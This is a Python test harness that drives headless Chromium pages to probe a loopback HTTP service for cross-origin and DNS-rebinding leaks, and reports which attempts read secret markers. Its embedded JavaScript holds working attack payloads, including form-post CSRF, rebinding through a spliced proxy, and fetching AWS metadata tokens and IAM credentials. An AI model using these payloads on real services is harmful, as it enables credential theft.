#!/usr/bin/env python3
"""Attacks an HTTP service on loopback from web pages in a headless Chromium.

Three pages attack http://127.0.0.1:VICTIM:
  evil      http://evil.test:PAGE/     a foreign web site
  rebind    http://rebind.test:VICTIM/ DNS rebinding (same origin as the victim, for the browser)
  loopback  http://127.0.0.1:PAGE/     a page of another program on this machine (same site, another port)

Prints one JSON object. Exits with 0 if all pages reported, with 1 if some did not, and with 2 if it could not start, was
interrupted, or the victim no longer listens.
A status of 0 does not prove that the victim is safe: check "leaks", "timeouts" and "controls" in the JSON.
The outcomes are what the attacker sees ("opaque" does not mean that the request arrived).
It uses only Python's standard library, one thread, and loopback.
"""
import argparse
import asyncio
import ctypes
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from urllib.parse import unquote

# ------------------------------------------------------------------ pages
JS_COMMON = r"""
const C = /*CONFIG*/;
const results = {};
const sleep = ms => new Promise(r => setTimeout(r, ms));
const got = (text, detail) => ({outcome: 'read', detail: detail || '', read: String(text).slice(0, 200000)});
const opaque = d => ({outcome: 'opaque', detail: String(d || '')});
const blocked = d => ({outcome: 'blocked', detail: String(d || '')});
async function attempt(name, fn) {
  const t0 = performance.now();
  let r;
  if (t0 > C.pageMs) { results[name] = blocked('timeout (page budget, not tried)'); return results[name]; }
  try {
    r = await Promise.race([fn(name), sleep(Math.min(C.attemptMs, C.pageMs - t0)).then(() => blocked('timeout'))]);
  } catch (e) { r = blocked(e); }
  r.ms = Math.round(performance.now() - t0);
  results[name] = r;
  return r;
}
const tag = (path, name) => C.tag ? path + (path.includes('?') ? '&' : '?') + 'attempt=' + C.page + '.' + name : path;
async function viaFetch(url, init) {
  const r = await fetch(url, init);
  if (r.type === 'opaque' || r.type === 'opaqueredirect') return opaque(r.type + ' ' + (await r.text()).length + ' bytes readable');
  return got(await r.text(), 'HTTP ' + r.status + ' ' + r.type);
}
function viaXhr(method, url) {
  return new Promise(res => {
    const x = new XMLHttpRequest();
    x.open(method, url);
    x.onload = () => res(got(x.responseText, 'HTTP ' + x.status));
    x.onerror = x.onabort = () => res(blocked('xhr error event'));
    x.send();
  });
}
function viaElement(tagName, props, inspect) {
  return new Promise(res => {
    const e = document.createElement(tagName);
    e.onload = () => { try { res(inspect(e)); } catch (x) { res(opaque('load event; ' + x.name)); } };
    e.onerror = () => res(blocked('error event'));
    Object.assign(e, props);
    document.body.appendChild(e);
  });
}
const frameText = f => {
  const d = f.contentDocument;      // null across origins
  if (d && d.URL === 'about:blank') return blocked('about:blank');
  return d ? got(d.documentElement.innerText, 'HTTP ' + f.contentWindow.performance.getEntriesByType('navigation')[0].responseStatus + ' frame') : opaque('load event; contentDocument is null');
};
async function report() {
  const body = JSON.stringify({page: C.page, origin: location.origin, secureContext: isSecureContext,
                               userAgent: navigator.userAgent, results});
  const same = location.origin === C.reportOrigin;
  for (let i = 0; i < 5; i++) {
    try {
      await fetch(C.reportOrigin + '/report', same
        ? {method: 'POST', body, headers: {'Content-Type': 'application/json'}}
        : {method: 'POST', body, mode: 'no-cors', headers: {'Content-Type': 'text/plain'}});
      break;
    } catch (e) {
      navigator.sendBeacon(C.reportOrigin + '/report', body);   // a string is sent as text/plain
      await sleep(300);
    }
  }
  if (C.next) location.replace(C.next);   // headless mode opens only one URL, so each page opens the next
}
"""

JS_CROSS = r"""
(async () => {
  const V = 'http://127.0.0.1:' + C.victim;
  const cred = n => tag(V + C.path, n);
  await attempt('control', () => viaFetch(C.controlUrl));   // allowed by CORS: must be readable
  await attempt('img', n => viaElement('img', {src: cred(n)}, e => opaque('image ' + e.naturalWidth + 'x' + e.naturalHeight)));
  await attempt('img_no_referrer', n => viaElement('img', {referrerPolicy: 'no-referrer', src: cred(n)}, e => opaque('image')));
  await attempt('img_redirect', n => viaElement('img', {referrerPolicy: 'no-referrer', src: '/redirect?' + encodeURIComponent(cred(n))}, e => opaque('image')));
  await attempt('form_post', n => new Promise(res => {
    const f = document.createElement('iframe');
    f.name = 'sink'; f.hidden = true; document.body.appendChild(f);
    const form = document.createElement('form');
    form.method = 'POST'; form.action = cred(n); form.target = 'sink';
    form.innerHTML = '<input name=a value=b>';
    document.body.appendChild(form);
    f.onload = () => { if (f.contentDocument && f.contentDocument.URL === 'about:blank') return;
                       try { res(frameText(f)); } catch (x) { res(opaque(x.name)); } };
    form.submit();
  }));
  await attempt('fetch_cors', n => viaFetch(cred(n)));
  await attempt('fetch_no_cors', n => viaFetch(cred(n), {mode: 'no-cors'}));
  await attempt('fetch_no_cors_no_referrer', n => viaFetch(cred(n), {mode: 'no-cors', referrerPolicy: 'no-referrer', credentials: 'omit'}));
  await attempt('fetch_authorization', n => viaFetch(cred(n), {headers: {Authorization: 'Bearer x'}}));
  await attempt('xhr', n => viaXhr('GET', cred(n)));
  await attempt('beacon', n => navigator.sendBeacon(cred(n), 'x') ? opaque('queued') : blocked('refused'));
  await attempt('websocket', n => new Promise(res => {
    const w = new WebSocket(cred(n).replace(/^http/, 'ws'));
    w.onopen = () => setTimeout(() => res(got('', 'socket opened')), 300);
    w.onmessage = e => res(got(e.data, 'message'));
    w.onerror = () => res(blocked('error event'));
  }));
  await attempt('eventsource', n => new Promise(res => {
    const s = new EventSource(cred(n));
    s.onopen = () => setTimeout(() => { s.close(); res(got('', 'stream opened')); }, 300);
    s.onmessage = e => { s.close(); res(got(e.data, 'message')); };
    s.onerror = () => { s.close(); res(blocked('error event')); };
  }));
  await attempt('put_token', n => viaFetch(tag(V + '/latest/api/token', n), {method: 'PUT', headers: {'X-aws-ec2-metadata-token-ttl-seconds': '21600'}}));
  let scriptError = '';
  window.addEventListener('error', e => { scriptError += (e.message || '') + ' '; });
  await attempt('script', n => viaElement('script', {src: cred(n)}, () => opaque('load event; ' + scriptError)));
  await attempt('stylesheet', n => viaElement('link', {rel: 'stylesheet', href: cred(n)},
    e => got(Array.from(e.sheet.cssRules).map(r => r.cssText).join('\n'), 'cssRules')));
  await attempt('iframe', n => viaElement('iframe', {hidden: true, src: cred(n)}, frameText));
  await attempt('iframe_no_referrer', n => viaElement('iframe', {hidden: true, referrerPolicy: 'no-referrer', src: cred(n)}, frameText));
  await report();
})();
"""

JS_REBIND = r"""
(async () => {
  const TTL = {'X-aws-ec2-metadata-token-ttl-seconds': '21600'};
  const META = '/latest/meta-data/iam/security-credentials/';
  await attempt('control', () => viaFetch('/__rebind_control'));   // answered by the attacker's listener
  await attempt('get', n => viaFetch(tag(C.path, n)));
  await attempt('get_no_referrer', n => viaFetch(tag(C.path, n), {referrerPolicy: 'no-referrer', credentials: 'omit'}));
  await attempt('get_authorization', n => viaFetch(tag(C.path, n), {referrerPolicy: 'no-referrer', headers: {Authorization: 'Bearer x'}}));
  await attempt('xhr', n => viaXhr('GET', tag(C.path, n)));
  await attempt('iframe_no_referrer', n => viaElement('iframe', {hidden: true, referrerPolicy: 'no-referrer', src: tag(C.path, n)}, frameText));
  await attempt('post', n => viaFetch(tag(C.path, n), {method: 'POST', body: 'x', referrerPolicy: 'no-referrer'}));
  const put = await attempt('put_token', n => viaFetch(tag('/latest/api/token', n), {method: 'PUT', headers: TTL}));
  await attempt('put_token_no_referrer', n => viaFetch(tag('/latest/api/token', n), {method: 'PUT', headers: TTL, mode: 'same-origin', referrerPolicy: 'no-referrer'}));
  // With the token if it could be read, otherwise without a token (IMDSv1).
  const ok = put.outcome === 'read' && put.detail.startsWith('HTTP 200');
  const h = ok ? {'X-aws-ec2-metadata-token': put.read.trim().replace(/[^\x21-\x7e]/g, '').slice(0, 2000)} : {};
  await attempt(ok ? 'metadata_with_token' : 'metadata_without_token', n => viaFetch(tag(META, n), {headers: h, referrerPolicy: 'no-referrer'}));
  await report();
})();
"""


def html(page, cfg):
    js = JS_COMMON.replace("/*CONFIG*/", json.dumps(cfg).replace("<", "\\u003c"))
    js += JS_REBIND if page == "rebind" else JS_CROSS
    # With a data: icon, the browser sends no request for a favicon, which would reach the victim through the splice.
    return ("<!doctype html><meta charset=utf-8><title>%s</title><link rel=icon href='data:,'>"
            "<body><script>%s</script>" % (page, js)).encode()


def response(status, body=b"", ctype="text/plain", extra=""):
    return ("HTTP/1.1 %s\r\nContent-Type: %s\r\nContent-Length: %d\r\nCache-Control: no-store\r\n"
            "Connection: close\r\n%s\r\n" % (status, ctype, len(body), extra)).encode() + body


async def read_head(reader):
    """Returns the head of the first request, or None for an idle connection, a TLS hello, or invalid data."""
    try:
        first = await reader.readexactly(1)
        if not first.isalpha():                     # 0x16 is a TLS hello: an attempt to use HTTPS
            return None
        raw = first + await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
    except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, asyncio.TimeoutError, OSError):
        return None
    lines = raw.decode("latin-1").split("\r\n")
    parts = lines[0].split(" ")
    if len(parts) != 3:
        return None
    headers = {}
    for line in lines[1:]:
        k, _, v = line.partition(":")
        headers[k.strip().lower()] = v.strip()
    return raw, parts[0], parts[1], headers


class Attack:
    PAGES = ("evil", "rebind", "loopback")

    def __init__(self, a):
        self.a = a
        self.reports = {}
        self.changed = asyncio.Event()
        self.page_served = False
        self.page_budget = max(2.0, (a.timeout - 14) / 3)
        self.next = {}
        self.spliced = 0
        self.tasks = set()
        self.started = time.monotonic()

    def log(self, *args):
        if self.a.verbose:
            print("[%6.2f]" % (time.monotonic() - self.started), *args, file=sys.stderr, flush=True)

    def urls(self):
        return {"evil": "http://evil.test:%d/" % self.a.page_port,
                "rebind": "http://rebind.test:%d/" % self.a.victim_port,
                "loopback": "http://127.0.0.1:%d/" % self.a.page_port}

    def config(self, page):
        evil = "http://evil.test:%d" % self.a.page_port
        loop = "http://127.0.0.1:%d" % self.a.page_port
        return {"page": page, "victim": self.a.victim_port, "path": self.a.path, "tag": self.a.tag,
                "next": self.next.get(page), "pageMs": int(self.page_budget * 1000),
                "attemptMs": int(self.a.attempt_timeout * 1000),
                "reportOrigin": loop if page == "loopback" else evil,
                "controlUrl": (evil if page == "loopback" else loop) + "/control"}

    # Every connection is a task, so it can be cancelled at the end.
    def handler(self, fn):
        async def run(reader, writer):
            task = asyncio.current_task()
            self.tasks.add(task)
            try:
                await fn(reader, writer)
            except (OSError, asyncio.IncompleteReadError, asyncio.CancelledError):
                pass
            finally:
                self.tasks.discard(task)
                writer.close()
        return run

    async def page_conn(self, reader, writer):
        head = await read_head(reader)
        if head is None:
            return
        _, method, target, headers = head
        host = headers.get("host", "")
        page = "evil" if host.startswith("evil.test:") else "loopback"
        self.log("page server:", method, host + target.split("?")[0])
        if method == "POST" and target == "/report":
            size = int(headers.get("content-length") or 0)
            if size > 4 << 20:
                return
            body = await reader.readexactly(size)
            writer.write(response("204 No Content"))
            await writer.drain()
            try:
                rep = json.loads(body)
                name = rep["page"]
            except (ValueError, KeyError, TypeError):
                return
            if name in self.PAGES and name not in self.reports:
                self.log("report from", name)
                self.reports[name] = rep
                self.changed.set()
            return
        if target == "/":
            out = response("200 OK", html(page, self.config(page)), "text/html; charset=utf-8")
        elif target == "/control":
            out = response("200 OK", b"control", extra="Access-Control-Allow-Origin: *\r\n")
        elif target.startswith("/redirect?"):
            url = unquote(target.split("?", 1)[1])
            out = response("302 Found", extra="Location: %s\r\n" % url)
        else:
            out = response("404 Not Found")
        writer.write(out)
        await writer.drain()

    async def rebind_conn(self, reader, writer):
        # The first request decides, not the first connection: Chromium may open spare connections early.
        head = await read_head(reader)
        if head is None:
            return
        raw, method, target, headers = head
        self.log("rebind:", method, headers.get("host"), target, "(page)" if not self.page_served else "(splice)")
        if target == "/__rebind_control":
            writer.write(response("200 OK", b"control"))
            await writer.drain()
            return
        if not self.page_served:
            if target == "/":
                self.page_served = True
                writer.write(response("200 OK", html("rebind", self.config("rebind")), "text/html; charset=utf-8"))
            else:
                writer.write(response("404 Not Found"))
            await writer.drain()
            return
        self.spliced += 1
        vr, vw = await asyncio.open_connection("127.0.0.1", self.a.victim_port)
        try:
            vw.write(raw)

            async def pump(src, dst):
                try:
                    while True:
                        data = await src.read(65536)
                        if not data:
                            break
                        dst.write(data)
                        await dst.drain()
                    if dst.can_write_eof():
                        dst.write_eof()
                except OSError:
                    dst.close()
            up = asyncio.ensure_future(pump(reader, vw))
            try:
                await pump(vr, writer)          # the end of the victim's data ends the connection
            finally:
                up.cancel()
        finally:
            vw.close()

    # -------------------------------------------------------------- browser
    def launch(self, rundir, n, pages):
        prof = os.path.join(rundir, "p%d" % n)
        for d in ("home", "run", "t"):
            os.makedirs(os.path.join(rundir, d), mode=0o700, exist_ok=True)
        env = {"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8",
               "DBUS_SESSION_BUS_ADDRESS": "unix:path=/nonexistent",
               "DBUS_SYSTEM_BUS_ADDRESS": "unix:path=/nonexistent",
               "HOME": rundir + "/home", "XDG_RUNTIME_DIR": rundir + "/run",
               "TMPDIR": rundir + "/t"}     # so that Chromium's temporary files are removed with rundir
        rules = ["MAP evil.test %s" % self.a.evil_ip, "MAP rebind.test 127.0.0.2",
                 "MAP * ~NOTFOUND", "EXCLUDE 127.0.0.1"]     # no request leaves loopback
        cmd = [self.a.chromium, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
               "--disable-background-networking", "--disable-component-update", "--disable-sync",
               "--disable-quic", "--disable-extensions", "--disable-default-apps",
               "--disable-breakpad", "--disable-crash-reporter", "--disable-dev-shm-usage",
               "--password-store=basic", "--no-proxy-server", "--mute-audio",
               "--disable-background-timer-throttling", "--disable-renderer-backgrounding",
               "--disable-backgrounding-occluded-windows",
               "--user-data-dir=" + prof,
               "--host-resolver-rules=" + ", ".join(rules)]
        if self.a.evil_public:
            cmd.append("--ip-address-space-overrides=%s:%d=public" % (self.a.evil_ip, self.a.page_port))
        cmd += self.a.chromium_arg
        urls = self.urls()
        self.next = {p: urls[q] for p, q in zip(pages, pages[1:])}
        cmd.append(urls[pages[0]])
        self.log("launch", n, pages)
        libc = self.libc

        def end_with_parent():       # the browser ends if this process is killed
            libc.prctl(1, signal.SIGKILL, 0, 0, 0)
        with open(os.path.join(rundir, "chromium.log"), "ab") as log:
            return subprocess.Popen(cmd, env=env, cwd=rundir, stdin=subprocess.DEVNULL, stdout=log,
                                    stderr=log, start_new_session=True, preexec_fn=end_with_parent)

    def victim_up(self):
        try:
            socket.create_connection(("127.0.0.1", self.a.victim_port), 2).close()
            return True
        except OSError:
            return False

    def children(self):
        me, out = os.getpid(), []
        for d in os.listdir("/proc"):
            if d.isdigit():
                try:
                    with open("/proc/%s/stat" % d) as f:
                        if int(f.read().rsplit(")", 1)[1].split()[1]) == me:
                            out.append(int(d))
                except (OSError, IndexError, ValueError):
                    pass
        return out

    def end(self, proc):
        """Kills the browser's process group, and then its orphans, whose parent is now this process (a subreaper)."""
        if proc.returncode is None:               # not reaped yet, so the id cannot be another process
            try:
                os.killpg(proc.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        try:
            proc.wait(5)
        except subprocess.TimeoutExpired:
            pass
        stop = time.monotonic() + 3
        while time.monotonic() < stop:
            kids = self.children()
            if not kids:
                return True
            for k in kids:
                try:
                    os.kill(k, signal.SIGKILL)
                    os.waitpid(k, os.WNOHANG)
                except (ProcessLookupError, ChildProcessError):
                    pass
            time.sleep(0.02)
        return False

    async def run(self):
        a = self.a
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.libc.prctl(36, 1, 0, 0, 0)           # PR_SET_CHILD_SUBREAPER
        loop = asyncio.get_running_loop()
        me = asyncio.current_task()
        for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            loop.add_signal_handler(s, me.cancel)
        a.evil_ip = "127.0.0.3" if a.evil_public else "127.0.0.1"
        servers, fatal = [], None
        tmp = tempfile.gettempdir()
        if len(tmp) > 40:                         # the paths of Chromium's sockets have at most 108 bytes
            tmp = "/tmp"
        rundir = tempfile.mkdtemp(prefix="cr-", dir=tmp)
        proc, launches, clean = None, 0, True
        deadline = self.started + a.timeout - 6   # 6 s are for the clean-up
        try:
            if not self.victim_up():
                raise OSError("nothing listens on 127.0.0.1:%d" % a.victim_port)
            srv = await asyncio.start_server(self.handler(self.page_conn), "127.0.0.1", a.page_port)
            servers.append(srv)
            a.page_port = srv.sockets[0].getsockname()[1]
            if a.evil_public:
                servers.append(await asyncio.start_server(self.handler(self.page_conn), a.evil_ip, a.page_port))
            servers.append(await asyncio.start_server(self.handler(self.rebind_conn), "127.0.0.2", a.victim_port))
            while launches < 2:
                missing = [p for p in self.PAGES if p not in self.reports]
                left = deadline - time.monotonic()
                if not missing or left < 3:
                    break
                launches += 1
                if "rebind" in missing:
                    self.page_served = False
                proc = self.launch(rundir, launches, missing)
                known, stall = len(self.reports), 0.0
                while len(self.reports) < len(self.PAGES) and proc.poll() is None:
                    now = time.monotonic()
                    if not stall or len(self.reports) > known:      # progress: wait again
                        known, stall = len(self.reports), now + self.page_budget + 6
                    if now > deadline or now > stall:
                        break
                    self.changed.clear()
                    try:
                        await asyncio.wait_for(self.changed.wait(), 0.25)
                    except asyncio.TimeoutError:
                        pass
                if proc.poll() is not None:
                    self.log("chromium ended by itself:", proc.returncode)
                clean = self.end(proc) and clean
                proc = None
        except asyncio.CancelledError:
            fatal = "interrupted"
        except OSError as e:
            fatal = "%s: %s" % (type(e).__name__, e)
        finally:
            if proc is not None:
                clean = self.end(proc) and clean
            for s in servers:
                s.close()
            for t in list(self.tasks):
                t.cancel()
            tail = ""
            try:
                with open(os.path.join(rundir, "chromium.log"), "rb") as f:
                    tail = f.read()[-4000:].decode("utf-8", "replace")
            except OSError:
                pass
            for _ in range(20):
                shutil.rmtree(rundir, ignore_errors=True)
                if not os.path.exists(rundir):
                    break
                time.sleep(0.1)
        up = self.victim_up()
        if not fatal and not up:
            fatal = "the victim no longer listens"
        missing = [p for p in self.PAGES if p not in self.reports]
        flat = [(p + "." + n, r) for p in self.PAGES if p in self.reports
                for n, r in self.reports[p]["results"].items()]
        out = {"ok": not missing and not fatal, "missing": missing, "error": fatal,
               "reports": {p: self.reports.get(p) for p in self.PAGES},
               "controls": {k: r["outcome"] for k, r in flat if k.endswith(".control")},
               "timeouts": [k for k, r in flat if r.get("detail", "").startswith("timeout")],
               "read": {k: r["detail"] for k, r in flat if r["outcome"] == "read" and not k.endswith(".control")},
               "leaks": sorted({k for k, r in flat for m in a.marker if m in r.get("read", "") + r["detail"]}),
               "spliced_connections": self.spliced, "launches": launches, "clean": clean and not os.path.exists(rundir),
               "seconds": round(time.monotonic() - self.started, 2)}
        if not out["ok"] or a.verbose:
            print(tail, file=sys.stderr)
        print(json.dumps(out, indent=None if a.compact else 1), flush=True)
        return 0 if out["ok"] else 2 if fatal else 1


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--victim-port", type=int, required=True, help="victim on 127.0.0.1 (must not bind 0.0.0.0)")
    ap.add_argument("--page-port", type=int, default=0, help="0: any free port")
    ap.add_argument("--path", default="/credentials/adminUser")
    ap.add_argument("--timeout", type=float, default=40, help="whole run, seconds")
    ap.add_argument("--attempt-timeout", type=float, default=4, help="each attempt, seconds")
    ap.add_argument("--tag", action="store_true", help="add ?attempt=PAGE.NAME, to attribute the victim's log")
    ap.add_argument("--evil-public", action="store_true", help="evil.test counts as a public address (local network access checks on)")
    ap.add_argument("--chromium", default="/usr/bin/chromium")
    ap.add_argument("--chromium-arg", action="append", default=[])
    ap.add_argument("--compact", action="store_true", help="JSON on one line")
    ap.add_argument("--verbose", action="store_true")
    a = ap.parse_args()
    # Secret texts, one per line. "leaks" lists the attempts that read one. They are not arguments, because other users can
    # see those.
    a.marker = [line.strip() for line in sys.stdin if line.strip()]

    async def go():
        return await Attack(a).run()
    sys.exit(asyncio.run(go()))


if __name__ == "__main__":
    main()
